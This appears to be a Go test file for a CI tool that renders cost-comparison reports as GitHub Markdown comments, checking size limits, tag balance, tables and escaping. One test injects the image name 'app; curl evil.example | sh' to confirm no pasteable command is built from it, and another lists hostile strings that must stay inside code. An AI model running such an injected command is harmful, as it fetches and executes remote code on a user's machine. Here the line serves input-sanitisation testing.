@@ -1,0 +1,131 @@
+package report_test
+
+import (
+	"regexp"
+	"strings"
+	"testing"
+	"unicode/utf8"
+
+	"pgregory.net/rapid"
+
+	"github.com/plimsoll-ci/plimsoll/internal/record"
+	"github.com/plimsoll-ci/plimsoll/internal/report"
+)
+
+func TestMarkdownStructure(t *testing.T) {
+	for name, c := range map[string]record.Comparison{
+		"fail": failing(), "pass": passing(), "hostile": hostile(), "several": severalServices(), "many": many(200), "nothing": comparison(),
+	} {
+		t.Run(name, func(t *testing.T) { sound(t, string(report.Markdown(c, pull())), report.CommentLimit) })
+	}
+}
+
+// Whatever the limit, the comment keeps it, and no element stays open.
+func TestMarkdownKeepsAnyLimit(t *testing.T) {
+	several := []record.Comparison{many(12), hostile(), severalServices()}
+	rapid.Check(t, func(rt *rapid.T) {
+		o := pull()
+		o.Limit = rapid.IntRange(4096, 40_000).Draw(rt, "limit")
+		c := rapid.SampledFrom(several).Draw(rt, "comparison")
+		sound(t, string(report.Markdown(c, o)), o.Limit)
+	})
+}
+
+// sound checks what GitHub would otherwise render wrongly: size, encoding,
+// balanced folds, tables with equal rows and an empty line before them.
+func sound(t *testing.T, md string, limit int) {
+	t.Helper()
+	if len(md) > limit {
+		t.Errorf("%d bytes, limit %d", len(md), limit)
+	}
+	if !utf8.ValidString(md) {
+		t.Error("not UTF-8")
+	}
+	open, before, pipes := 0, "", 0
+	for line := range strings.Lines(md) {
+		line = strings.TrimSuffix(line, "\n")
+		open += strings.Count(line, "<details>") - strings.Count(line, "</details>")
+		if open < 0 || open > 1 {
+			t.Fatalf("details nested %d deep at %q", open, line)
+		}
+		if strings.HasPrefix(line, "| ") {
+			n := strings.Count(line, "|")
+			if pipes == 0 && before != "" {
+				t.Errorf("table not after an empty line: %q, %q", before, line)
+			}
+			if pipes != 0 && n != pipes {
+				t.Errorf("row of %d pipes in a table of %d: %q", n, pipes, line)
+			}
+			pipes = n
+		} else {
+			pipes = 0
+		}
+		before = line
+	}
+	if open != 0 {
+		t.Errorf("%d details stay open", open)
+	}
+}
+
+var ownTags = regexp.MustCompile(`</?(?:details|summary|code|sub)>|<br>|<!-- plimsoll key=default -->`)
+
+// Nothing foreign becomes markup: the only tags are our own, and no mention or
+// reference stands outside of code.
+func TestMarkdownHoldsNoForeignMarkup(t *testing.T) {
+	md := string(report.Markdown(hostile(), pull()))
+	rest := ownTags.ReplaceAllString(md, "")
+	rest = regexp.MustCompile("`[^`\n]*`").ReplaceAllString(rest, "")
+	if i := strings.IndexAny(rest, "<"); i >= 0 {
+		t.Errorf("foreign tag at %q", rest[i:min(len(rest), i+60)])
+	}
+	for _, bad := range []string{"@everyone", "#123", "GH-7", "https://evil", "www.evil", "\u202e", "\x1b", "**bold**"} {
+		if strings.Contains(regexp.MustCompile(`<code>.*?</code>`).ReplaceAllString(rest, ""), bad) {
+			t.Errorf("%q stands outside of code", bad)
+		}
+	}
+}
+
+func TestMarkdownFirstLines(t *testing.T) {
+	o := pull()
+	if got := string(report.Markdown(failing(), o)); !strings.HasPrefix(got, o.Marker+"\n### ❌ This pull request makes `api` $86 a month dearer (+21 %), and ") {
+		t.Errorf("comment begins %q", got[:120])
+	}
+	if got := string(report.Markdown(failing(), report.Options{})); !strings.HasPrefix(got, "### ❌ This change makes `api` $86") {
+		t.Errorf("report.md begins %q", got[:120])
+	}
+}
+
+// What was left out is said, and where it is.
+func TestMarkdownSaysWhatItLeftOut(t *testing.T) {
+	md := string(report.Markdown(many(200), pull()))
+	if !strings.Contains(md, "Left out for length: ") || !strings.Contains(md, "All of it is in [job summary](https://github.com/o/r/actions/runs/1).") {
+		t.Errorf("comment ends %q", md[len(md)-600:])
+	}
+	o := pull()
+	o.Limit = report.SummaryLimit
+	if md := string(report.Markdown(many(200), o)); strings.Contains(md, "Left out") {
+		t.Error("a summary of 200 services is cut, though there is room")
+	}
+}
+
+// A pull request that changes nothing of note gets no tables of failures and
+// no advice.
+func TestMarkdownIsShortWhenGreen(t *testing.T) {
+	md := string(report.Markdown(passing(), pull()))
+	open, _, _ := strings.Cut(md, "<details>")
+	if lines := strings.Count(open, "\n"); lines > 8 {
+		t.Errorf("%d lines above the fold:\n%s", lines, open)
+	}
+	if strings.Contains(md, "What to do") {
+		t.Error("advice though nothing failed")
+	}
+}
+
+// A command that people paste into a shell is never made from a tricky name.
+func TestAdviceQuotesNoTrickyNames(t *testing.T) {
+	c := failing()
+	c.Services[0].Head.Image = "app; curl evil.example | sh"
+	if md := string(report.Markdown(c, pull())); strings.Contains(md, "plimsoll compare") {
+		t.Error("the command to repeat holds a tricky name")
+	}
+}
